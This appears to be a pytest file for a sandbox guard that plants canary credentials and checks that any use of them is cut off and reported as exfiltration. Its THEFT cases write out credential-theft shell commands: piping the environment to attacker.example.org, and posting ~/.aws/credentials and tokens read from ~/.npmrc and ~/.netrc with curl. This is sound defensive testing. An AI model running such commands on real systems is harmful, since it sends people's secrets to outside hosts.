"""Canaries in a sealed run: planted where thieves look, and any use of one, anywhere, is an attempt to steal."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from ebbgate.host.home_files import plant, take_away
from ebbgate.secrets.canaries import VARIABLES, new_canaries
from ebbgate.secrets.credentials import CANARY
from ebbgate.secrets.shapes import Shapes
from tests.world import World
from tests.world.internet import API, EVIL

APIS = (API, "2001:db8::10")
NAMES = ["api.example.com", "registry.npmjs.org", "api.github.com"]
FILES = (".aws/credentials", ".npmrc", ".netrc")


@pytest.fixture(autouse=True)
def empty_home(world: World) -> Path:
    home = Path(world.directory) / "home"
    shutil.rmtree(home, ignore_errors=True)
    home.mkdir(mode=0o777)
    home.chmod(0o777)
    return home


def policy(world: World, text: str = "") -> list[str]:
    file = Path(world.directory) / "canary.yml"
    file.write_text(f"version: 1\nallow: [api.example.com, 'http://api.example.com']\ncanary: true\n{text}")
    return ["--policy", str(file)]


def test_they_look_real_and_are_never_the_same() -> None:
    first, second = new_canaries({}), new_canaries({VARIABLES[0]: "taken"})
    assert tuple(second.variables) == VARIABLES[1:]
    values = {one.reveal() for canaries in (first, second) for one in canaries.secrets}
    assert len(values) == len(first.secrets) + len(second.secrets)
    assert {one.kind for one in first.secrets} == {CANARY}
    shapes = Shapes(heads=True)
    tokens = [one for value in first.variables.values() for one in shapes.search(value.encode())]
    tokens += [one for file in first.files for one in shapes.search(file.content)]
    assert sorted(one.kind.id for one in tokens) == ["github-pat-classic"] * 2 + ["npm-token"] * 2
    assert all(one.checked for one in tokens), "a thief checks before taking"
    assert re.search(rb"AKIA[A-Z2-7]{16}\n.* = [0-9A-Za-z+/]{40}\n", first.files[0].content)


THEFT = {
    "an environment, to an attacker": ("env | curl -sS --data-binary @- https://attacker.example.org/", EVIL),
    "an environment, to an allowed host": ("env | gzip | base64 -w0 | curl -sS --data-binary @- https://api.example.com/", API),
    "the file of a cloud": ("curl -sS --data-binary @$HOME/.aws/credentials https://api.example.com/", API),
    "a registry's token, tried out": (
        "curl -sS -H \"Authorization: Bearer $(sed 's/.*=//' ~/.npmrc)\" https://api.example.com/-/whoami", API,
    ),
    "a password in a file, tried out in the clear": ("curl -sS -u x:$(awk '{print $6}' ~/.netrc) http://api.example.com/", API),
}  # fmt: skip


@pytest.mark.parametrize("name", THEFT)
def test_any_use_is_cut(world: World, user: int | None, name: str) -> None:
    script, target = THEFT[name]
    outcome = world.guard.run(policy(world), ["sh", "-c", f"{script}; sleep 30"], user=user, timeout=40)
    assert outcome.code == 91, outcome.stderr
    leaks = [one for one in outcome.incidents if one["kind"] == "exfiltration"]
    assert leaks
    assert {one["credential"] for one in leaks} == {CANARY}
    assert all(one["stopped"] for one in leaks)
    assert world.received(target).strip() == b""
    assert "a canary, planted by the guard" in outcome.stderr
    assert "no honest program uses a canary" in outcome.stderr
    assert "bind it" not in outcome.stderr
    assert not [one for one in Shapes(heads=True).search(outcome.everything_written()) if one.checked], (
        "its value is in no record"
    )


def test_in_its_own_place_at_its_own_host_it_is_stolen_all_the_same(world: World) -> None:
    """A thief tries a token at its issuer: that the place would be right for a real one does not matter."""
    text = "secrets:\n  RELEASE_GITHUB_TOKEN: { to: [api.example.com], in: [authorization] }\n"
    command = ["sh", "-c", 'curl -sS -H "Authorization: Bearer $RELEASE_GITHUB_TOKEN" https://api.example.com/user']
    outcome = world.guard.run(policy(world, text), command)
    assert outcome.code == 91, outcome.stderr
    assert world.received(*APIS).strip() == b""


def test_audit_says_so(world: World) -> None:
    command = ["sh", "-c", "env | curl -sS --data-binary @- https://api.example.com/ >/dev/null"]
    outcome = world.guard.run([*policy(world), "--mode", "audit"], command)
    assert outcome.code == 0
    assert outcome.report["verdict"] == "exfiltration"
    assert {one["kind"] for one in outcome.report["rotations"]} == {CANARY}
    assert all("valid nowhere" in one["steps"][0] for one in outcome.report["rotations"])


def test_they_come_and_go_with_the_run(world: World, empty_home: Path) -> None:
    look = "cd ~; for f in .aws/credentials .npmrc .netrc; do stat -c '%a %n' $f; done; env | grep -c TOKEN"
    outcome = world.guard.run(policy(world), ["sh", "-c", look])
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout.split("\n")[:4] == ["600 .aws/credentials", "600 .npmrc", "600 .netrc", "2"]
    assert list(empty_home.iterdir()) == []
    without = world.guard.run(["--allow", "api.example.com"], ["sh", "-c", "ls -A ~; env | grep -c TOKEN"])
    assert without.stdout == "0\n"


def test_what_is_there_stays_as_it_is(world: World, empty_home: Path) -> None:
    (empty_home / ".npmrc").write_text("registry=https://registry.example.com/\n")
    (empty_home / ".netrc").symlink_to(empty_home / "elsewhere")
    script = "cat ~/.npmrc; echo '[default]' >> ~/.aws/credentials; ls ~"
    outcome = world.guard.run(policy(world), ["sh", "-c", script])
    assert outcome.stdout == "registry=https://registry.example.com/\n"
    assert (empty_home / ".npmrc").read_text() == "registry=https://registry.example.com/\n"
    assert (empty_home / ".aws" / "credentials").read_text() == "[default]\n", "only what was planted is taken away"
    assert not (empty_home / "elsewhere").exists()
    assert (empty_home / ".netrc").is_symlink()


def test_it_goes_although_the_command_is_ended(world: World, empty_home: Path) -> None:
    outcome = world.guard.run(policy(world), ["sh", "-c", "kill -9 $$"])
    assert outcome.code == 137
    assert list(empty_home.iterdir()) == []


def test_a_file_that_became_something_else_is_left_alone(tmp_path: Path) -> None:
    files = [(name, f"content of {name}\n".encode()) for name in FILES]
    victim = tmp_path / "victim"
    victim.write_bytes(files[1][1])
    home = tmp_path / "home"
    home.mkdir()
    planted = plant(home, files)
    assert [one.path.name for one in planted] == ["credentials", ".npmrc", ".netrc"]
    (home / ".npmrc").unlink()
    (home / ".npmrc").symlink_to(victim)
    (home / ".netrc").unlink()
    (home / ".netrc").mkdir()
    take_away(planted)
    assert victim.read_bytes() == files[1][1]
    assert sorted(one.name for one in home.iterdir()) == [".netrc", ".npmrc"]
    assert plant(home / "missing", files) == []
